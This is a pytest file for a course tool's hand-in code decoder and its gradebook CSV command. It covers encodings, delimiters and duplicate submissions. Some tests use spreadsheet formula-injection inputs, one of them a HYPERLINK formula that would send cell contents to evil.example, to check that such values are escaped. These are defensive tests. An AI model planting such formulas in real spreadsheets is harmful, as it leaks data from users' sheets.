"""Hand-in codes and `zadachnik gradebook`: the page's encoder (handin.js) and this decoder run one set of cases
(tests/vectors/handin.json); damaged codes are refused with their row, the rest of the file is still read."""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import os
import shutil
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from support.sites import ROOT
from zadachnik.cli import main
from zadachnik.exports.handin import DamagedCode, file_text, gradebook, hand_in_code, read_code

VECTORS = json.loads((ROOT / "tests/vectors/handin.json").read_text(encoding="utf-8"))
# The words each kind of damage is told in.
REASONS = {"checksum": "checksum does not match", "whole": "not a whole hand-in code",
           "characters": "characters no hand-in code has", "contents": "not a page's results",
           "read": "cannot be read"}


@pytest.mark.parametrize("case", VECTORS["codes"], ids=lambda case: case["name"])
def test_every_code_reads_back_as_the_results_it_was_made_of(case: dict) -> None:
    results = read_code(case["code"])
    expected = case["results"]
    assert (results.course, results.module, results.time) == (expected["course"], expected["module"],
                                                                 expected["time"])
    assert [list(question) for question in results.questions] == expected["questions"]
    assert hand_in_code(expected) == case["code"]


@pytest.mark.parametrize("case", VECTORS["damaged"], ids=lambda case: case["name"])
def test_a_damaged_code_is_refused_with_what_is_wrong(case: dict) -> None:
    with pytest.raises(DamagedCode, match=REASONS[case["reason"]]):
        read_code(case["code"])


def test_spaces_and_line_breaks_a_mail_program_adds_are_ignored() -> None:
    code = VECTORS["codes"][0]["code"]
    broken = "\n".join(code[at:at + 40] for at in range(0, len(code), 40))
    assert read_code("  " + broken.replace("Q", " Q") + "\n") == read_code(code)


def test_the_page_encoder_makes_the_same_codes() -> None:
    node = shutil.which("node")
    assert node, "Node.js is needed"
    result = subprocess.run([node, "--test", str(ROOT / "tests/js/js_handin.test.mjs")], capture_output=True,
                            text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_forms_export_becomes_one_row_per_learner_and_question() -> None:
    quiz, russian = VECTORS["codes"][0]["code"], VECTORS["codes"][1]["code"]
    damaged = VECTORS["damaged"][0]["code"]
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerows([["Timestamp", "Name", "Code"], ["2026-12-01 10:00", "Ann", quiz], [],
                      ["2026-12-01 10:05", "Boris", russian], ["2026-12-01 10:06", "Cleo", damaged],
                      ["2026-12-01 10:07", "Dan", "I forgot"]])
    book = gradebook(source.getvalue())
    rows = table(book.table)
    assert book.codes == 2
    assert book.problems == [
        "row 5: the code's checksum does not match: part of it was lost or changed on its way; ask for the code "
        "again", "row 6: no hand-in code in this row"]
    assert list(rows[0]) == ["Timestamp", "Name", "course", "module", "question", "variant", "status", "score",
                             "answer", "handed_in"]
    ann = [row for row in rows if row["Name"] == "Ann"]
    assert [(row["question"], row["status"], row["score"]) for row in ann] == [
        ("Q1", "correct", "1"), ("Q2", "partial", "0.5"), ("Q3", "wrong", "0"), ("Q4", "unanswered", ""),
        ("Q5", "unreadable", ""), ("Q6", "not checked", "")]
    assert ann[0]["handed_in"] == "2025-12-03T00:00:00+00:00" and ann[5]["answer"] == "not checked yet"
    boris = [row for row in rows if row["Name"] == "Boris"]
    assert [(row["question"], row["variant"]) for row in boris] == [("P02", "3"), ("P05", "7"), ("9.4.2", "")]
    assert boris[2]["answer"].startswith("Ответ: «да»,\n\"потому что\"")


def test_without_a_header_the_other_columns_are_numbered() -> None:
    book = gradebook(f"Ann Lee,{VECTORS['codes'][0]['code']}\n{VECTORS['codes'][1]['code']},extra,cells\n")
    rows = table(book.table)
    assert list(rows[0])[:2] == ["column 1", "column 2"] and rows[0]["column 1"] == "Ann Lee"
    assert book.codes == 2 and book.problems == []


def test_the_command_writes_the_table_and_exits_1_naming_each_row_left_out(tmp_path: Path, capsys) -> None:
    codes = tmp_path / "codes.csv"
    good, bad = VECTORS["codes"][0]["code"], VECTORS["damaged"][1]["code"]
    # A spreadsheet's export: a byte-order mark first.
    codes.write_text(f"\ufeffName,Code\nAnn,{good}\nBoris,{bad}\n", encoding="utf-8")
    assert main(["gradebook", str(codes), "--out", str(tmp_path / "table.csv")]) == 1
    error = capsys.readouterr().err
    assert f"{codes}: row 3: the code's checksum does not match" in error
    assert "1 code(s) read, 1 row(s) left out" in error
    rows = table((tmp_path / "table.csv").read_text(encoding="utf-8-sig"))
    assert {row["Name"] for row in rows} == {"Ann"} and len(rows) == 6
    codes.write_text(f"Name,Code\nAnn,{good}\n", encoding="utf-8")
    assert main(["gradebook", str(codes)]) == 0
    assert table(capsys.readouterr().out)[0]["question"] == "Q1"


@pytest.mark.parametrize("content, message", [
    (None, "cannot read"), (b"\xff\xfe\x00bad", "cannot read"), ("Name,Code\n", "holds no hand-in code"),
    ("a," + "x" * 1_100_000 + "\n", "not a CSV file")])
def test_a_file_that_cannot_be_read_is_one_line_and_status_2(tmp_path: Path, capsys, content, message) -> None:
    codes = tmp_path / "codes.csv"
    if isinstance(content, bytes):
        codes.write_bytes(content)
    elif content is not None:
        codes.write_text(content, encoding="utf-8")
    assert main(["gradebook", str(codes)]) == 2
    error = capsys.readouterr().err
    assert error.startswith("zadachnik gradebook: ") and message in error and "Traceback" not in error


def test_a_learners_text_that_a_spreadsheet_would_run_as_a_formula_stays_text() -> None:
    results = {"course": "c", "module": "1", "time": 1, "questions": [["Q5", None, None, None, "=HYPERLINK(\"x\")"],
                                                                       ["Q6", None, None, None, "- a list item"]]}
    book = gradebook(f"Name,Code\n@evil,{hand_in_code(results)}\n")
    rows = table(book.table)
    assert [row["answer"] for row in rows] == ["'=HYPERLINK(\"x\")", "'- a list item"]
    assert rows[0]["Name"] == "'@evil"


# What a form, a spreadsheet or a mail program may put around a pasted code: Unicode white space (a no-break space
# above all) and invisible characters (a zero-width space, a byte-order mark).
SPACING = ["\u00a0", "\u2003", "\u3000", " \u00a0\n", "\u200b", "\ufeff", "\u2060"]


@pytest.mark.parametrize("spacing", SPACING, ids=lambda spacing: "+".join(f"U+{ord(c):04X}" for c in spacing))
def test_a_code_with_any_spacing_around_or_in_it_is_read(spacing: str) -> None:
    """A cell holding a no-break space and then a whole code was reported as 'no hand-in code in this row'."""
    code = VECTORS["codes"][0]["code"]
    source = io.StringIO()
    csv.writer(source).writerows([["Name", "Code"], ["Ann", spacing + code + spacing],
                                  ["Boris", code[:30] + spacing + code[30:]]])
    book = gradebook(source.getvalue())
    assert (book.codes, book.problems) == (2, [])
    assert read_code(spacing + code[:30] + spacing + code[30:] + spacing) == read_code(code)


def test_a_first_row_is_the_header_only_if_it_names_the_codes_column_and_the_command_says_so(
        tmp_path: Path, capsys) -> None:
    """Without a header row, a first learner who left the code out became the header, their name a column's title,
    and nothing said so (exit status 0). A row whose cell in the codes' column is empty is a learner's, not a
    header: it is named as a row without a code. A header taken is said, with its cells."""
    code = VECTORS["codes"][0]["code"]
    book = gradebook(f"Ann,\nBoris,{code}\n")
    assert book.problems == ["row 1: no hand-in code in this row (its cell in the codes' column is empty, so it "
                             "is not read as the header)"]
    assert book.notes == [] and table(book.table)[0]["column 1"] == "Boris"
    book = gradebook(f"Ann,forgot it\nBoris,{code}\n")
    assert book.notes == ["row 1 is read as the header, since it holds no code: Ann, forgot it"]
    assert book.problems == [] and table(book.table)[0]["Ann"] == "Boris"
    book = gradebook(f"Boris,{code}\nAnn,\n")
    assert book.notes == [] and book.problems == ["row 2: no hand-in code in this row"]
    codes = tmp_path / "codes.csv"
    codes.write_text(f"Name,Code\nAnn,{code}\n", encoding="utf-8")
    assert main(["gradebook", str(codes), "--out", str(tmp_path / "table.csv")]) == 0
    assert capsys.readouterr().err.splitlines() == [
        f"{codes}: row 1 is read as the header, since it holds no code: Name, Code",
        "zadachnik gradebook: 1 code(s) read, 0 row(s) left out"]


def test_a_codes_ids_and_the_files_header_that_a_spreadsheet_would_run_as_a_formula_stay_text() -> None:
    """A learner can make a code of any results in the browser console: its course, module and question ids (and
    variant) were written as they came, and so was a header read from a learner's row in a file without one."""
    results = {"course": '=HYPERLINK("http://evil.example/?"&A1,"demo")', "module": "+1+1", "time": 1,
               "questions": [["@SUM(1+1)", -3, "correct", 1, ""], ["-2+3", None, "partial", 0.5, ""]]}
    rows = table(gradebook(f"Name,Code\nAnn,{hand_in_code(results)}\n").table)
    assert [(row["course"], row["module"], row["question"], row["variant"]) for row in rows] == [
        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"demo\")", "'+1+1", "'@SUM(1+1)", "'-3"),
        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"demo\")", "'+1+1", "'-2+3", "")]
    # The scores are the command's own numbers: they stay numbers.
    assert [row["score"] for row in rows] == ["1", "0.5"]
    code = VECTORS["codes"][0]["code"]
    book = gradebook(f'"=HYPERLINK(""http://evil.example"",""Click"")",I forgot my code\nAnn,{code}\n')
    assert book.notes and list(table(book.table)[0])[0] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"


@pytest.mark.parametrize("delimiter", [";", "\t"], ids=["semicolon", "tab"])
def test_an_export_separated_by_semicolons_or_tabs_is_read_and_the_table_keeps_its_separator(delimiter: str) -> None:
    """Excel in a Russian or German locale saves its CSV with semicolons: every row was left out, as holding no
    code (a name first) or a code changed on its way (the code first, the name glued to it)."""
    code = VECTORS["codes"][0]["code"]
    for text in (f"Имя{delimiter}Код\nАнна{delimiter}{code}\nБорис{delimiter}{code}\n",
                 f"Код{delimiter}Имя\n{code}{delimiter}Анна\n{code}{delimiter}Борис\n"):
        book = gradebook(text)
        assert (book.codes, book.problems) == (2, [])
        rows = list(csv.DictReader(io.StringIO(book.table), delimiter=delimiter))
        assert [row["Имя"] for row in rows[::6]] == ["Анна", "Борис"] and rows[0]["question"] == "Q1"
    # A file of codes alone, without a separator to tell, is read as commas.
    assert gradebook(f"{code}\n{code}\n").table.startswith("course,module,question,variant,status,score,")


def test_a_windows_1251_export_is_read_and_the_table_is_written_as_utf8_with_a_byte_order_mark(
        tmp_path: Path, capsys) -> None:
    """Excel's 'CSV (comma delimited)' in a Russian locale is Windows-1251: the command ended with Python's
    UnicodeDecodeError and status 2. The table is UTF-8 with a byte-order mark, which Excel needs to read it so."""
    codes, out = tmp_path / "codes.csv", tmp_path / "table.csv"
    codes.write_bytes(f"Имя;Код\nАнна;{VECTORS['codes'][0]['code']}\n".encode("cp1251"))
    assert main(["gradebook", str(codes), "--out", str(out)]) == 0
    assert f"{codes}: read as Windows-1251 (Cyrillic) text, since it is not UTF-8" in capsys.readouterr().err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[0]["Имя"] == "Анна"


def test_a_file_neither_utf8_nor_a_windows_code_page_is_one_line_asking_for_utf8(tmp_path: Path, capsys) -> None:
    codes = tmp_path / "codes.csv"
    # 0x98 is no character in Windows-1251, 0x81 none in Windows-1252, and neither starts a UTF-8 one.
    codes.write_bytes(b"Name,Code\n\x98Ann\x81,ZDK1.x.00000000\n")
    assert main(["gradebook", str(codes)]) == 2
    error = capsys.readouterr().err
    assert error == (f"zadachnik gradebook: cannot read {codes}: it is neither UTF-8 nor Windows-1251 nor "
                     "Windows-1252 text; save it as a UTF-8 CSV file (Excel: 'CSV UTF-8')\n")


def test_a_table_separated_by_semicolons_writes_its_scores_with_a_decimal_comma() -> None:
    """A file separated by semicolons comes from a locale whose decimal mark is a comma: there a score written 0.5
    is text, or a date, to the spreadsheet that reads the table back, and the scores could not be summed."""
    code = VECTORS["codes"][0]["code"]
    semicolons = list(csv.DictReader(io.StringIO(gradebook(f"Имя;Код\nАнна;{code}\n").table), delimiter=";"))
    assert [row["score"] for row in semicolons[:3]] == ["1", "0,5", "0"]
    assert [row["score"] for row in table(gradebook(f"Name,Code\nAnn,{code}\n").table)[:3]] == ["1", "0.5", "0"]


# What a learner or a mail program puts around a whole code, and the invisible format characters (Unicode's Cf) a
# word processor or a right-to-left page puts in: each was refused as a damaged code, or a row without one.
AROUND = {"a full stop": "{}.", "words before": "My code: {}", "words after": "{} thanks!",
          "both, on two lines": "Here it is:\n{}\nAnn", "straight quotes": '"{}"', "curly quotes": "“{}”",
          "guillemets": "«{}»", "angle brackets": "<{}>"}
FORMAT_CHARACTERS = ["\u00ad", "\u200e", "\u200f", "\u202a", "\u2066", "\u061c", "\u180e", "\u2063"]


def read_in_a_file(cell: str) -> tuple[int, list[str]]:
    source = io.StringIO()
    csv.writer(source).writerows([["Name", "Code"], ["Ann", cell]])
    book = gradebook(source.getvalue())
    return book.codes, book.problems


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND.keys())
def test_a_whole_code_with_words_quotes_or_a_full_stop_around_it_is_read(around: str) -> None:
    code = VECTORS["codes"][0]["code"]
    assert read_code(around.format(code)) == read_code(code)
    assert read_in_a_file(around.format(code)) == (1, [])


@pytest.mark.parametrize("character", FORMAT_CHARACTERS, ids=lambda character: f"U+{ord(character):04X}")
def test_an_invisible_format_character_in_or_around_a_code_is_ignored(character: str) -> None:
    code = VECTORS["codes"][0]["code"]
    marked = character + code[:3] + character + code[3:30] + character + code[30:] + character
    assert read_code(marked) == read_code(code)
    assert read_in_a_file(marked) == (1, [])


def test_a_cell_with_two_codes_is_said_to_hold_more_than_one() -> None:
    first, second = VECTORS["codes"][0]["code"], VECTORS["codes"][1]["code"]
    for cell in (f"{first} {second}", f"{first}\n{VECTORS['damaged'][0]['code']}", f"1) {first}. 2) {second}."):
        assert read_in_a_file(cell) == (0, ["row 2: more than one hand-in code in this row: give each its row"])
        with pytest.raises(DamagedCode, match="more than one hand-in code"):
            read_code(cell)


@pytest.mark.parametrize("case", VECTORS["damaged"][:5], ids=lambda case: case["name"])
def test_a_damaged_code_with_words_around_it_is_still_refused_with_what_is_wrong(case: dict) -> None:
    for around in AROUND.values():
        with pytest.raises(DamagedCode, match=REASONS[case["reason"]]):
            read_code(around.format(case["code"]))


def test_a_code_or_a_learner_handed_in_twice_for_one_module_is_noted(tmp_path: Path, capsys) -> None:
    """The same code in two rows, or two codes of one learner (the same cells saying who) for one module, went into
    the table without a word: a sum over it counted that learner's module twice."""
    first = VECTORS["codes"][0]
    later = hand_in_code({**first["results"], "time": first["results"]["time"] + 600})
    other_module = hand_in_code({**first["results"], "module": "2"})
    codes = tmp_path / "codes.csv"
    codes.write_text(f"Name,Code\nAnn,{first['code']}\nBen, {first['code']}.\n ann ,{later}\nAnn,{other_module}\n"
                     f",{later}\n", encoding="utf-8")
    assert main(["gradebook", str(codes)]) == 0
    assert capsys.readouterr().err.splitlines()[1:-1] == [
        f"{codes}: rows 2, 3 hold the same code: the table has its results once per row, so a sum over it counts "
        "them more than once",
        f"{codes}: rows 4, 6 hold the same code: the table has its results once per row, so a sum over it counts "
        "them more than once",
        f"{codes}: rows 2, 4 name the same learner (Ann) for course demo, module 1, with results for the same "
        "questions (Q1, Q2, Q3, Q4, Q5, Q6): the table has each code's results, so a sum over it counts them more "
        "than once"]


def test_a_note_on_a_code_in_many_rows_names_ten_and_counts_the_rest() -> None:
    code = VECTORS["codes"][0]["code"]
    book = gradebook("".join(f"{code}\n" for _ in range(1_012)))
    assert book.notes == ["rows 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and 1,002 more hold the same code: the table has its "
                          "results once per row, so a sum over it counts them more than once"]


def code_of_json(text: str) -> str:
    """A code of a page's JSON text as JSON.stringify wrote it, escapes and all (hand_in_code writes the characters
    themselves, and cannot write half of one)."""
    payload = base64.urlsafe_b64encode(text.encode("ascii")).decode("ascii").rstrip("=")
    return f"ZDK1.{payload}.{zlib.crc32(payload.encode('ascii')):08x}"


HALF_AN_EMOJI = code_of_json('{"v":1,"c":"demo","m":"1","t":1796650000,'
                             '"q":[["Q5",null,null,null,"half an emoji: \\ud83d"]]}')


@pytest.mark.parametrize("out", [False, True], ids=["standard output", "--out"])
def test_a_code_holding_half_a_character_is_read_with_a_replacement_and_a_line(tmp_path: Path, capsys,
                                                                             out: bool) -> None:
    """JSON.stringify writes half of a character (an emoji cut in two) as a lone surrogate escape, \\ud83d: a
    valid code holding one ended the command with UnicodeEncodeError, and the class got no table. Asking for the
    code again would not help: the page makes the same code of the same saved text."""
    codes, written = tmp_path / "codes.csv", tmp_path / "table.csv"
    codes.write_text(f"Name,Code\nAnn,{VECTORS['codes'][0]['code']}\nBen,{HALF_AN_EMOJI}\n", encoding="utf-8")
    assert main(["gradebook", str(codes), *(["--out", str(written)] if out else [])]) == 0
    captured = capsys.readouterr()
    rows = table(written.read_text(encoding="utf-8-sig") if out else captured.out)
    assert {row["Name"] for row in rows} == {"Ann", "Ben"}
    assert [row["answer"] for row in rows if row["Name"] == "Ben"] == ["half an emoji: \ufffd"]
    assert f"{codes}: row 3: the code holds half of a character (an emoji cut in two), shown as \ufffd in the " \
           "table; its results are read whole" in captured.err.splitlines()



def twice(first: str, later: str, delimiter: str = ",") -> str:
    """Two rows of one learner's codes for one module, as a form exports them: `first` and `later` the cells before
    each code."""
    code = VECTORS["codes"][0]
    again = hand_in_code({**code["results"], "time": code["results"]["time"] + 600})
    return f"{first}{delimiter}{code['code']}\n{later}{delimiter}{again}\n"


# A form's export: a header naming the time, or none and times as the tools write them; who the note names.
TIMES = {
    "Google Forms": ("Timestamp,Name,Code\n" + twice("2026-12-01 10:00:00,Ann", "2026-12-01 10:50:00,Ann"), "Ann"),
    "an e-mail column": ("Timestamp,Email Address,Name,Code\n" + twice("12/1/2026 10:00:00,ann@x.org,Ann",
                                                                       "12/1/2026 10:50:00,ann@x.org,Ann"),
                         "ann@x.org, Ann"),
    "Russian, semicolons": ("Отметка времени;ФИО;Код\n" + twice("01.12.2026 10:00;Анна", "01.12.2026 10:50;Анна",
                                                                 ";"), "Анна"),
    "a header naming the time, whatever its cells": ("Время,Имя,Код\n" + twice("утром,Анна", "вечером,Анна"), "Анна"),
    "no header, ISO times": (twice("2026-12-01T10:00:00Z,Ann", "2026-12-01T10:50:00.5+03:00,Ann"), "Ann"),
    "no header, AM and a zone": (twice("2026/12/01 10:00:00 AM GMT+3,Ann", "2026/12/01 1:15:00 p.m. GMT+3,Ann"),
                                 "Ann"),
    # Microsoft Forms numbers each response in a first column, "ID", beside its start and completion times.
    "Microsoft Forms": ("ID,Start time,Completion time,Email,Name,Your code\n"
                        + twice("1,12/1/26 10:00:00,12/1/26 10:05:00,anna@x.org,Anna",
                                "2,12/1/26 10:50:00,12/1/26 10:55:00,anna@x.org,Anna"), "anna@x.org, Anna"),
}


@pytest.mark.parametrize("text, who", TIMES.values(), ids=TIMES.keys())
def test_a_learner_handing_in_one_module_twice_is_noted_though_the_time_of_each_row_differs(text: str,
                                                                                          who: str) -> None:
    """A form's export always has a column of times, which differs in every row: the note on a learner handing in
    one module twice never fired, as every cell saying who was compared, the time among them."""
    rows = "2, 3" if text.count("\n") == 3 else "1, 2"
    assert [note for note in gradebook(text).notes if "same learner" in note] == [
        f"rows {rows} name the same learner ({who}) for course demo, module 1, with results for the same questions "
        "(Q1, Q2, Q3, Q4, Q5, Q6): the table has each code's results, so a sum over it counts them more than once"]


# Cells that tell learners apart though some look like times: no note may take two learners for one.
NOT_TIMES = {
    "dates without a time (of birth)": "Name,Born,Code\n" + twice("Ann Lee,2001-01-01", "Ann Lee,2002-02-02"),
    "a column some of whose cells are times": "Name,Group,Code\n" + twice("Ann,10:30", "Ann,B-2"),
    "a time and a word": "Name,Lesson,Code\n" + twice("Ann,10:30 lab", "Ann,12:00 lab"),
    "times and nothing else": "Timestamp,Code\n" + twice("2026-12-01 10:00:00", "2026-12-01 10:50:00"),
    # An "ID" in a file that is no Microsoft Forms export is the teacher's own: a student's number.
    "a student's ID": "ID,Name,Code\n" + twice("1001,Ann Lee", "1002,Ann Lee"),
}


@pytest.mark.parametrize("text", NOT_TIMES.values(), ids=NOT_TIMES.keys())
def test_a_column_is_set_aside_as_times_only_when_its_header_or_every_cell_is_a_time(text: str) -> None:
    assert not [note for note in gradebook(text).notes if "same learner" in note]


def page_code(items: str, time: int = 1_796_653_994) -> str:
    """A code of a page of module 1 holding the items named (e.g. "Q1 Q2"), the first of them answered right."""
    questions = [[item, None, "correct" if index == 0 else None, 1 if index == 0 else None, ""]
                 for index, item in enumerate(items.split())]
    return hand_in_code({"course": "demo", "module": "1", "time": time, "questions": questions})


QUIZ, EXERCISES = page_code("Q1 Q2 Q3"), page_code("E1 E2", 1_796_653_997)


@pytest.mark.parametrize("header, first, later", [("Name", "Ann", "Ann"),
                                                  ("Timestamp,Name", "2026-12-01 10:00,Ann", "2026-12-01 10:05,Ann")],
                         ids=["without times", "with a timestamp"])
def test_a_modules_quiz_and_exercises_codes_both_count_without_a_note(header: str, first: str, later: str) -> None:
    """A module's quiz page and its exercises page each make a code, of different items: the two were said to be
    the same learner handing in the module twice, a sum over them counting it more than once."""
    book = gradebook(f"{header},Code\n{first},{QUIZ}\n{later},{EXERCISES}\n")
    assert (book.codes, book.problems) == (2, [])
    assert not [note for note in book.notes if "same learner" in note]
    assert [(row["Name"], row["question"], row["status"]) for row in table(book.table)] == [
        ("Ann", "Q1", "correct"), ("Ann", "Q2", "not checked"), ("Ann", "Q3", "not checked"),
        ("Ann", "E1", "correct"), ("Ann", "E2", "not checked")]


def test_only_codes_whose_items_overlap_are_noted_as_one_learners_repeat() -> None:
    again, exercises_again = page_code("Q1 Q2 Q3", 1_796_654_994), page_code("E2 E3", 1_796_654_997)
    book = gradebook(f"Name,Code\nAnn,{QUIZ}\nAnn,{EXERCISES}\nAnn,{again}\n")
    assert [note for note in book.notes if "same learner" in note] == [
        "rows 2, 4 name the same learner (Ann) for course demo, module 1, with results for the same questions (Q1, "
        "Q2, Q3): the table has each code's results, so a sum over it counts them more than once"]
    book = gradebook(f"Name,Code\nAnn,{QUIZ}\nAnn,{EXERCISES}\nAnn,{again}\nAnn,{exercises_again}\n")
    assert [note.split(":")[0] for note in book.notes if "same learner" in note] == [
        "rows 2, 4 name the same learner (Ann) for course demo, module 1, with results for the same questions (Q1, "
        "Q2, Q3)", "rows 3, 5 name the same learner (Ann) for course demo, module 1, with results for the same "
        "questions (E2)"]


@pytest.mark.parametrize("pasted", ["{0}{0}", "{0} {0}", "{0}\n{0}", "{0}. {0}.", "My code: {0}, again: {0}"],
                         ids=["glued", "a space", "a line break", "full stops", "words"])
def test_one_code_pasted_twice_into_a_cell_is_read_once(pasted: str) -> None:
    """A learner who pasted their code twice lost the whole row, as holding 'more than one hand-in code'."""
    code = VECTORS["codes"][0]["code"]
    assert read_code(pasted.format(code)) == read_code(code)
    assert read_in_a_file(pasted.format(code)) == (1, [])


# Text as Excel's plain "CSV" writes it in a Russian locale (Windows-1251) and in a Western European one
# (Windows-1252): which of the two a file that is not UTF-8 is read as.
CODE_PAGES = {
    "cp1251": ["Имя;Код\nИванов, Иван;", "Ответ: «да», в 10 ч.", "Пётр Ёлкин", "Anna Иванова (Anna Ivanova)",
               "я", "Отметка времени;ФИО;Код\n01.12.2026 10:00;Сидорова, Анна;ZDK1.x.00000000\n",
               # A Latin look-alike typed inside a Cyrillic name cuts the word in two runs beside a Latin letter.
               "Name,Code\nПeтров Иван,", "Сергeй Пeтрович Aлексеев"],
    "cp1252": ["Jörg Müller", "François Lefèvre", "Zoë;José;Émile", "Réponse à la question", "Größe",
               "Zeitstempel;Name;Code\r\n01.12.2026 10:00;Jörg Müller;ZDK1.x.00000000\r\n"],
}


@pytest.mark.parametrize("encoding, text", [(encoding, text) for encoding, texts in CODE_PAGES.items()
                                            for text in texts])
def test_a_file_that_is_not_utf8_is_read_in_the_code_page_its_letters_show(encoding: str, text: str) -> None:
    """A German or French Excel's CSV (Windows-1252) was read as Windows-1251: 'Jörg Müller' came out as
    'Jцrg Mьller'. A Western accented letter stands among Latin ones; a Cyrillic word is all Cyrillic letters."""
    assert file_text(text.encode(encoding)) == (text, encoding)


def test_a_german_excel_export_keeps_its_names_and_says_how_it_was_read(tmp_path: Path, capsys) -> None:
    codes, out = tmp_path / "codes.csv", tmp_path / "table.csv"
    codes.write_bytes(f"Zeitstempel;Name;Code\r\n01.12.2026 10:00;Jörg Müller;{VECTORS['codes'][0]['code']}\r\n"
                      f"01.12.2026 10:01;François Lefèvre;{VECTORS['codes'][2]['code']}\r\n".encode("cp1252"))
    assert main(["gradebook", str(codes), "--out", str(out)]) == 0
    assert f"{codes}: read as Windows-1252 (Western European) text, since it is not UTF-8: if names look wrong, " \
           "save it as a UTF-8 CSV file (Excel: 'CSV UTF-8')" in capsys.readouterr().err.splitlines()
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert {row["Name"] for row in rows} == {"Jörg Müller", "François Lefèvre"}


SYMBOLS = hand_in_code({"course": "demo", "module": "1", "time": 1_796_650_000,
                        "questions": [["E1", None, None, None, "C ≈ 7.2e23 FLOP 👍"]]})


def symbols_file(tmp_path: Path) -> Path:
    codes = tmp_path / "codes.csv"
    codes.write_text(f"Имя;Код\nАнна;{SYMBOLS}\n", encoding="utf-8")
    return codes


def test_the_table_redirected_from_a_console_that_is_not_utf8_is_written_whole_as_utf8(tmp_path: Path) -> None:
    """`zadachnik gradebook codes.csv > table.csv` where the console's encoding is not UTF-8 (Windows-1251, say)
    ended in UnicodeEncodeError, and the file was empty: a redirect has no screen whose characters to keep to."""
    redirected = tmp_path / "table.csv"
    with redirected.open("wb") as out:
        result = subprocess.run([sys.executable, "-m", "zadachnik", "gradebook", str(symbols_file(tmp_path))],
                                stdout=out, stderr=subprocess.PIPE, env={**os.environ, "PYTHONIOENCODING": "cp1251"},
                                timeout=60)
    error = result.stderr.decode("cp1251")
    assert result.returncode == 0 and "Traceback" not in error
    rows = list(csv.DictReader(io.StringIO(redirected.read_bytes().decode("utf-8")), delimiter=";"))
    assert [(row["Имя"], row["answer"]) for row in rows] == [("Анна", "C ≈ 7.2e23 FLOP 👍")]


def on_a_terminal(command: list[str], env: dict[str, str]) -> tuple[int, bytes, bytes]:
    """A command's exit status, what it showed on a terminal (a pseudo-terminal: its standard output is a tty) and
    what it wrote to the standard error."""
    controller, terminal = os.openpty()
    with subprocess.Popen(command, stdout=terminal, stderr=subprocess.PIPE, env=env) as process:
        os.close(terminal)
        shown = b""
        # Reading the controller ends with EIO on Linux once the command has closed the terminal.
        with contextlib.suppress(OSError):
            while chunk := os.read(controller, 65_536):
                shown += chunk
        os.close(controller)
        error = process.stderr.read()
    return process.returncode, shown, error


def test_a_terminal_that_is_not_utf8_shows_the_table_with_question_marks_and_a_line_about_out(tmp_path: Path) -> None:
    """On a console whose encoding is not UTF-8 the table ended in UnicodeEncodeError: what the screen cannot show
    is now a '?', and a line says how to get the table whole."""
    status, shown, error = on_a_terminal([sys.executable, "-m", "zadachnik", "gradebook", str(symbols_file(tmp_path))],
                                         {**os.environ, "PYTHONIOENCODING": "cp1251"})
    assert status == 0, error.decode("cp1251")
    assert "Анна;demo;1;E1;;not checked;;C ? 7.2e23 FLOP ?;" in shown.decode("cp1251")
    assert ("zadachnik gradebook: the screen's encoding (cp1251) has no character for some of the table's, shown "
            "as '?': write the table to a file with --out table.csv") in error.decode("cp1251").splitlines()
